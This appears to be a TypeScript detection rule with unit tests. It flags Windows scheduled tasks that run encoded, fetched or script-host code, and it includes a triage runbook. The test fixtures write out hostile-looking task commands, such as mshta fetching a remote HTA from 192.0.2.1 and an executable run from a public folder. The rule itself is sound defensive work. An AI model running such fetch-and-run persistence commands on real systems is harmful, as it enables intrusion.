import { eventFields, isEvent } from '../../src/detect/reading/windows-event.ts'
import { oddLaunch } from '../../src/detect/reading/windows-launch.ts'
import { rule, table } from '../../src/detect/rule.ts'

export default rule({
  id: 'windows.odd-task-registered',
  title: 'Scheduled task made that runs odd code',
  severity: 'high',
  on: table('windows_events'),
  attack: ['T1053.005'],
  means:
    'Someone made a task that runs code that is encoded, fetched or hidden in a script host, or a file from a folder where nobody installs programs. The event names who; a task may be deleted again at once.',
  check: 'SELECT name, path, action, enabled FROM scheduled_tasks WHERE enabled = 1;',
  benign:
    'Scripts of administrators, management tools that encode their PowerShell. The audit of “Other Object Access Events” must be on for this event to come.',
  runbook:
    'Decode or read what it runs. Ask the account that made it, by another way. Unknown: isolate the host, keep the file, delete the task, and look for how that account came in.',
  references: ['https://attack.mitre.org/techniques/T1053/005/'],
  detect: ({ columns }) => oddLaunch(registered(columns).command) !== null,
  dynamicSeverity: ({ columns }) =>
    oddLaunch(registered(columns).command)?.sure === true ? 'high' : 'medium',
  alertTitle: ({ host, columns }) => {
    const { task, command, by } = registered(columns)
    return `Task ${task} of ${by} on ${host} ${oddLaunch(command)?.reason}`
  },
  dedup: ({ hostId, columns }) => `${hostId} ${registered(columns).task}`,
  context: ({ columns }) => registered(columns),
  tests: [
    {
      name: 'a fetched script',
      match: true,
      columns: registration('mshta.exe', 'http://192.0.2.1/a.hta?x=1&amp;y=2'),
      title: 'Task \\Updater of ada on test-host runs mshta on http://192.0.2.1/a.hta?x=1&y=2',
      dedup: 'test-host-id \\Updater',
      severity: 'high',
      context: { task: '\\Updater', command: 'mshta.exe http://192.0.2.1/a.hta?x=1&y=2', by: 'ada' },
    },
    {
      name: 'changed',
      match: true,
      columns: { ...registration('C:\\Users\\Public\\a.exe', ''), eventid: '4702' },
    },
    {
      name: 'a person’s own script',
      match: true,
      columns: registration('C:\\Users\\ada\\Documents\\a.bat', ''),
      severity: 'medium',
    },
    {
      name: 'an ordinary task',
      match: false,
      columns: registration('C:\\Program Files\\Example\\a.exe', '/daily'),
    },
    {
      name: 'deleted',
      match: false,
      columns: { ...registration('mshta', 'http://192.0.2.1/a'), eventid: '4699' },
    },
    {
      name: 'a task without a program',
      match: false,
      columns: { ...registration('', ''), data: '{"EventData":{"TaskName":"x","TaskContent":"<Task/>"}}' },
    },
    {
      name: 'data that is cut off',
      match: false,
      columns: { ...registration('', ''), data: '{"EventData":{"TaskContent":"<Command>mshta http' },
    },
    {
      name: 'a row of a removal',
      match: false,
      action: 'removed',
      columns: registration('mshta', 'http://192.0.2.1/a'),
    },
  ],
})

/** What events 4698 (a task was made) and 4702 (changed) say of the first program of the task. */
function registered(columns: { readonly source: string; readonly eventid: string; readonly data: string }) {
  const fields = isEvent(columns, 'Security', 4698, 4702) ? eventFields(columns.data) : {}
  const { TaskName = '', TaskContent = '', TaskContentNew = '', SubjectUserName = '' } = fields
  const xml = TaskContent || TaskContentNew
  return {
    task: TaskName,
    command: `${element(xml, 'Command')} ${element(xml, 'Arguments')}`.trim(),
    by: SubjectUserName,
  }
}

const ENTITIES: ReadonlyMap<string, string> = new Map([
  ['amp', '&'],
  ['lt', '<'],
  ['gt', '>'],
  ['quot', '"'],
  ['apos', "'"],
])

/** Text of the first element of that name, which has no elements within. */
function element(xml: string, name: string): string {
  const start = xml.indexOf(`<${name}>`)
  const end = xml.indexOf(`</${name}>`, start)
  if (start === -1 || end === -1) return ''
  return xml
    .slice(start + name.length + 2, end)
    .replace(/&(amp|lt|gt|quot|apos);/g, (entity, word: string) => ENTITIES.get(word) ?? entity)
}

function registration(command: string, args: string) {
  const content = `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task><Actions Context="Author"><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Actions></Task>`
  const fields = { SubjectUserName: 'ada', TaskName: '\\Updater', TaskContent: content }
  return { source: 'Security', eventid: '4698', data: `${JSON.stringify({ EventData: fields })}\\x0A` }
}
